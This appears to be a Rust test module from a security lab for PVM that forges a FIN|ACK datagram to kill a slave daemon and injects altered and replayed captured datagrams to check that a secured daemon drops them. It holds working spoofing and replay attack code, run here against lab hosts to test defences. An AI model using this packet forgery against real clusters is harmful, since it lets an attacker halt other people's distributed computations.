//! What an attacker can do who is on the same network and knows the master's address and port.

use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use secpvm::lab::{Lab, packet::Datagram, pcap::Frame};
use secpvm::log::Dropped;

use super::wire::datagrams;

/// How long a slave may take to end.
const PATIENCE: Duration = Duration::from_secs(4);
/// How many captured datagrams are sent again.
const REPLAYS: usize = 10;

/// PVM's datagram header, 16 bytes, all big-endian: destination tid 4, source tid 4, sequence 2,
/// acknowledgement 2, flags 1, zero 3. From the master to the daemon of the second host, with the
/// flags FIN and ACK, it says: the machine is being halted.
const FIN_ACK: [u8; 16] = 0x8008_0000_8004_0000_0000_0000_1800_0000_u128.to_be_bytes();

/// Send one forged FIN|ACK to the slave of a plain machine. Returns whether it died of it.
///
/// # Errors
/// The capture shows no datagram from master to slave, or the packet can't be sent.
pub fn kill_plain(lab: &Lab, frames: &[Frame]) -> Result<bool> {
    let captured = master_to_slave(lab, frames)?;
    ensure!(
        lab.host("host2").has_pvmd()?,
        "the slave is gone before the attack"
    );
    send(lab, &[forged(&captured[0])])?;
    await_end(lab)
}

/// What a secured slave made of the attack.
pub struct Outcome {
    /// Forged datagrams that it dropped: the altered one, and the plain one that is none of ours.
    pub forged: u64,
    /// Datagrams that it dropped for having had them before.
    pub replayed: u64,
    /// It ran on, and a program on it came to its right result.
    pub slave_alive: bool,
}

/// Send the slave of a secured machine a forged FIN|ACK, a captured datagram with one bit changed,
/// and the last of its master's datagrams once more; then use the machine, and halt it, upon which
/// the slave logs all that it has dropped.
///
/// # Errors
/// As for [`kill_plain`], or the slave had dropped something before.
pub fn attack_secured(lab: &Lab, frames: &[Frame]) -> Result<Outcome> {
    let captured = master_to_slave(lab, frames)?;
    let slave = lab.host("host2");
    ensure!(
        slave.dropped() == Dropped::default(),
        "the slave dropped datagrams before the attack:\n{}",
        slave.log()
    );
    let mut altered = captured[0].clone();
    *altered
        .payload
        .last_mut()
        .context("a datagram without content")? ^= 1;
    let replays = &captured[captured.len().saturating_sub(REPLAYS)..];
    send(lab, &[&[forged(&captured[0]), altered], replays].concat())?;

    let workload = lab
        .host("host1")
        .command("workload")
        .args(["-n", "50"])
        .output()?;
    let slave_alive = workload.status.success() && slave.has_pvmd()?;
    lab.halt_machine()?;
    ensure!(
        await_end(lab)?,
        "the slave does not end when its machine is halted"
    );
    let dropped = slave.dropped();
    Ok(Outcome {
        forged: dropped.forged + dropped.malformed,
        replayed: dropped.replayed,
        slave_alive,
    })
}

/// Wait for the slave's daemon to end. Returns whether it does in time.
fn await_end(lab: &Lab) -> Result<bool> {
    let end = Instant::now() + PATIENCE;
    while lab.host("host2").has_pvmd()? {
        if Instant::now() > end {
            return Ok(false);
        }
        sleep(Duration::from_millis(50));
    }
    Ok(true)
}

fn master_to_slave(lab: &Lab, frames: &[Frame]) -> Result<Vec<Datagram>> {
    let (master, slave) = (lab.host("host1").address(), lab.host("host2").address());
    let captured = datagrams(frames, master, slave);
    ensure!(
        !captured.is_empty(),
        "no datagram from master to slave was captured"
    );
    Ok(captured)
}

fn forged(captured: &Datagram) -> Datagram {
    Datagram {
        payload: FIN_ACK.to_vec(),
        ..*captured
    }
}

fn send(lab: &Lab, datagrams: &[Datagram]) -> Result<()> {
    let mut injector = lab.injector()?;
    for datagram in datagrams {
        injector.send(datagram)?;
    }
    injector.finish()
}
